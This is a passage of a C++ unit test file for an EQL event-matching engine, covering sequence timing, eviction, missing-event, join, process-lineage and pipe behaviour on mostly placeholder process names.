  m->process(p, sink);
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"/tmp/b", "b"}));
  EXPECT_EQ(m->stats().pending_sequences, 1u);  // /tmp/a still waits
}

TEST_F(EngineTest, SequenceMaxspanUntilAndRuns) {
  auto rules = compile(
      {"sequence by process.entity_id with maxspan=10s [process where process.name == \"a\"] "
       "[process where process.name == \"b\"] with runs=2 until [process where "
       "process.name == \"stop\"]"});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("a", 0, "", "p1"), sink);
  m->process(proc("b", 1, "", "p1"), sink);
  m->process(proc("b", 2, "", "p1"), sink);  // completes: a b b
  m->process(proc("a", 10, "", "p1"), sink);
  m->process(proc("b", 30, "", "p1"), sink);  // 20 s after the start: expired first
  m->process(proc("a", 40, "", "p2"), sink);
  m->process(proc("stop", 41, "", "p2"), sink);
  m->process(proc("b", 42, "", "p2"), sink);
  m->process(proc("b", 43, "", "p2"), sink);
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"a", "b", "b"}));
  EXPECT_EQ(m->stats().expired_sequences, 2u);
}

// A partial match keeps its first events in place and the rest on the heap: a long sequence
// (runs=6 after a first step: 7 events) reports every event, in order, and so does a second
// match of the same rule reusing the released partial's slot.
TEST_F(EngineTest, LongSequencesKeepEveryEventInOrder) {
  auto rules =
      compile({"sequence by process.entity_id [process where process.name == \"a\"] "
               "[process where process.name : \"b*\"] with runs=6"});
  auto m = rules->make_matcher();
  Sink sink;
  for (const char* entity : {"p1", "p2"}) {
    m->process(proc("a", 0, "", entity), sink);
    for (int k = 1; k <= 6; ++k) m->process(proc("b" + std::to_string(k), k, "", entity), sink);
  }
  ASSERT_EQ(sink.hits.size(), 2u);
  for (const Hit& h : sink.hits) {
    EXPECT_EQ(h.names, (std::vector<std::string>{"a", "b1", "b2", "b3", "b4", "b5", "b6"}));
  }
  EXPECT_EQ(m->stats().pending_sequences, 0u);
}

TEST_F(EngineTest, SequenceStateIsBoundedWithEviction) {
  eql::CompileOptions opt;
  opt.limits.max_pending_per_rule = 3;
  auto rules = compile({"sequence by process.entity_id [process where process.name == \"a\"] "
                        "[process where process.name == \"b\"]"},
                       opt);
  auto m = rules->make_matcher();
  Sink sink;
  for (int k = 0; k < 5; ++k) m->process(proc("a", k, "", "p" + std::to_string(k)), sink);
  EXPECT_EQ(m->stats().pending_sequences, 3u);
  EXPECT_EQ(m->stats().evicted_sequences, 2u);
  m->process(proc("b", 9, "", "p0"), sink);  // evicted: oldest first
  m->process(proc("b", 9, "", "p4"), sink);
  ASSERT_EQ(sink.hits.size(), 1u);
}

TEST_F(EngineTest, MissingEvents) {
  auto rules =
      compile({"sequence by process.entity_id with maxspan=10s "
               "[process where process.name == \"a\"] ![process where process.name == "
               "\"x\"] [process where process.name == \"b\"]",
               "sequence by process.entity_id with maxspan=10s "
               "[process where process.name == \"c\"] ![process where process.name == "
               "\"y\"]"});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("a", 0, "", "p1"), sink);
  m->process(proc("x", 1, "", "p1"), sink);
  m->process(proc("b", 2, "", "p1"), sink);  // x in between: no match
  m->process(proc("a", 3, "", "p2"), sink);
  m->process(proc("b", 4, "", "p2"), sink);  // match
  m->process(proc("c", 5, "", "p3"), sink);
  m->process(proc("y", 6, "", "p3"), sink);  // kills p3
  m->process(proc("c", 7, "", "p4"), sink);
  ASSERT_EQ(sink.hits.size(), 1u);
  m->process(proc("z", 30, "", "p9"), sink);  // maxspan passed: c(p4) completes
  ASSERT_EQ(sink.hits.size(), 2u);
  EXPECT_EQ(sink.hits[1].rule, 1u);
  m->process(proc("c", 31, "", "p5"), sink);
  m->finish(sink);  // end of stream completes the pending one
  EXPECT_EQ(sink.hits.size(), 3u);
}

TEST_F(EngineTest, JoinFillsPositionsPerKey) {
  eql::CompileOptions opt;
  opt.dialect = eql::Dialect::kEndgame;
  auto rules = compile({"join by process.entity_id [process where process.name == \"a\"] "
                        "[file where true] until [process where process.name == \"end\"]"},
                       opt);
  auto m = rules->make_matcher();
  Sink sink;
  m->process(file("f1", 0, "p1"), sink);
  m->process(proc("end", 1, "", "p1"), sink);
  m->process(proc("a", 2, "", "p1"), sink);
  m->process(file("f2", 3, "p1"), sink);
  ASSERT_EQ(sink.hits.size(), 1u);
  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"a", "f2"}));
}

TEST_F(EngineTest, DescendantOfFollowsEntityIds) {
  auto rules =
      compile({"process where process.name == \"sh\" and descendant of "
               "[process where process.name == \"sshd\"]"});
  auto m = rules->make_matcher();
  Sink sink;
  m->process(proc("sshd", 0, "", "e1", "e0"), sink);
  m->process(proc("bash", 1, "", "e2", "e1"), sink);
  m->process(proc("sh", 2, "", "e3", "e2"), sink);  // grandchild: match
  m->process(proc("sh", 3, "", "e9", "e8"), sink);  // unrelated
  m->process(proc("bash", 4, "", "e2", "e1", "end"), sink);
  m->process(proc("sh", 5, "", "e4", "e2"), sink);  // parent ended: no match
  ASSERT_EQ(sink.hits.size(), 1u);
}

TEST(Lineage, BoundedKeySetEvictsOldestAndCounts) {
  BoundedKeySet s(2);
  s.insert(1);
  s.insert(2);
  s.insert(3);
  EXPECT_FALSE(s.contains(1));
  EXPECT_TRUE(s.contains(2) && s.contains(3));
  EXPECT_EQ(s.evictions(), 1u);
}

TEST_F(EngineTest, PipesOverResults) {
  SourceText src("q", "process where true | unique process.name | head 2");
  Diagnostics diags;
  auto q = eql::compile_eql_query(src, reg_, {}, diags);
  ASSERT_TRUE(q) << diags.render(src);
  std::vector<PipeResult> in;
  for (const char* n : {"a", "b", "a", "c"}) {
    PipeResult r;
    r.events.push_back(std::make_shared<const Event>(proc(n)));
    in.push_back(std::move(r));
  }
  auto out = run_pipes(*q->pipes, std::move(in));
  ASSERT_EQ(out.size(), 2u);
  FieldView v;
  ASSERT_TRUE(out[1].events[0]->get(fields::kProcessName, v));
  EXPECT_EQ(v.s, "b");
}

TEST_F(EngineTest, RulesWithPipesAreRejected) {
  SourceText t("r", "process where true | head 1");
  eql::EqlRuleSource src{7, &t};
  std::vector<Diagnostics> diags(1);
  eql::compile_eql_rules(std::span(&src, 1), reg_, {}, diags);
  EXPECT_NE(diags[0].render(t).find("[EQL2014]"), std::string::npos);
}

}  // namespace
}  // namespace wsn::match
